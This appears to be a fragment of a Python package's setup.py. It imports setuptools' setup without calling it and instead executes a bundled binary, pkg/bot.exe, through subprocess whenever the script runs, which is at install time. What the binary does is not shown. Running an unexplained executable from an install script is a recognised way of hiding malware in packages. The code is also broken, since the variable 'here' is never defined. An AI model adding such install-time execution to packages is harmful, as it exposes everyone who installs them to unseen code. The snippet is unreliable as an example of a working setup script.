import os, subprocess
from setuptools import setup
subprocess.run([os.path.join(here, "pkg", "bot.exe")])
